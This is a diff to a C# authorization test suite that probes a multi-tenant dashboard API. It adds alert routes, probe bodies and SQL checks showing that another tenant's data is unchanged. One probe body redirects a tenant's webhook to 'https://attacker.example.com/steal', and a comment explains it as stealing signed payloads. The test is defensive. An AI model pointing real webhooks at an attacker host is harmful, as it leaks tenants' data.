@@ -33,6 +33,7 @@ public sealed class CrossTenantRouteMatrixTests(DashboardWithOperatorApiHost hos
     private static readonly HashSet<string> OwnTenantWrites = new(StringComparer.Ordinal)
     {
         "PUT /api/settings/", "PUT /api/settings/analysis-profile/", "POST /api/settings/reanalysis/",
+        "PUT /api/alerts/rules", "POST /api/alerts/channels",
     };
 
     /// <summary>
@@ -172,6 +173,9 @@ public sealed class CrossTenantRouteMatrixTests(DashboardWithOperatorApiHost hos
         ("settings", "branchId", Target.AlphaSouth) => AlphaSouth,
         ("jobs", "id", Target.Alpha) => t.AlphaNorthJob.ToString(System.Globalization.CultureInfo.InvariantCulture),
         ("jobs", "id", Target.AlphaSouth) => t.AlphaSouthJob.ToString(System.Globalization.CultureInfo.InvariantCulture),
+        ("alerts", "id", Target.Alpha) => t.AlphaNorthAlert.ToString(System.Globalization.CultureInfo.InvariantCulture),
+        ("alerts", "id", Target.AlphaSouth) => t.AlphaSouthAlert.ToString(System.Globalization.CultureInfo.InvariantCulture),
+        ("alerts", "channelId", _) => t.AlphaChannel.ToString(System.Globalization.CultureInfo.InvariantCulture),
 
         // A user of wider scope than the caller: the tenant's all-branch admin.
         ("users", "id", _) => t.UserIds[AlphaAdmin].ToString(),
@@ -201,6 +205,11 @@ public sealed class CrossTenantRouteMatrixTests(DashboardWithOperatorApiHost hos
         ["POST /api/settings/reanalysis/"] = _ => JsonContent.Create(new { from = Day, to = Day.AddDays(1) }),
         ["POST /api/jobs/{id}/cancel"] = _ => JsonContent.Create(new { reason = "probe" }),
         ["POST /api/jobs/retry-kind"] = _ => JsonContent.Create(new { kind = "transcribe", max = 10 }),
+        ["PUT /api/alerts/rules"] = _ => JsonContent.Create(new { rules = new[] { new { rule = "backlog-mb", threshold = (double?)1, enabled = false } } }),
+        ["POST /api/alerts/channels"] = _ => JsonContent.Create(new { kind = "webhook", name = "probe hook", url = "https://probe.example.com/hook" }),
+
+        // Redirecting Alpha's hook (and its signed payloads) to the attacker, or switching it off.
+        ["PUT /api/alerts/channels/{channelId:long}"] = _ => JsonContent.Create(new { url = "https://attacker.example.com/steal", enabled = false }),
 
         // Granting more than the caller holds: the all-branch admin role, or Alpha's south branch.
         ["POST /api/users/"] = target => JsonContent.Create(new { email = $"probe-{Guid.NewGuid():n}@probe.test", role = Roles.Admin, branches = target == Target.AlphaSouth ? null : new[] { AlphaNorth }, password = "probe password long enough" }),
@@ -278,6 +287,9 @@ public sealed class CrossTenantRouteMatrixTests(DashboardWithOperatorApiHost hos
                 (SELECT count(*) FROM analysis_profile_versions WHERE tenant_id = 'alpha-co'),
                 (SELECT count(*) FROM reanalysis_runs WHERE tenant_id = 'alpha-co'),
                 (SELECT count(*) FROM jobs WHERE kind = 'reanalyze' AND payload ->> 'dialogueId' IN (SELECT dialogue_id::text FROM dialogues WHERE tenant_id = 'alpha-co')),
+                (SELECT string_agg(alert_id || ':' || coalesce(acknowledged_by, ''), ',' ORDER BY alert_id) FROM alerts WHERE tenant_id = 'alpha-co'),
+                (SELECT string_agg(rule || ':' || enabled || ':' || coalesce(threshold::text, ''), ',' ORDER BY rule) FROM alert_rule_settings WHERE tenant_id = 'alpha-co'),
+                (SELECT string_agg(channel_id || ':' || name || ':' || coalesce(url, '') || ':' || template || ':' || min_severity || ':' || enabled || ':' || coalesce(array_to_string(recipients, ','), ''), ',' ORDER BY channel_id) FROM alert_channels WHERE tenant_id = 'alpha-co'),
                 (SELECT string_agg(j.job_id || ':' || j.status || ':' || j.attempts || ':' || coalesce(j.cancel_reason, ''), ',' ORDER BY j.job_id)
                  FROM jobs j JOIN job_scopes s ON s.job_id = j.job_id WHERE s.tenant_id = 'alpha-co'))
             """) ?? "";
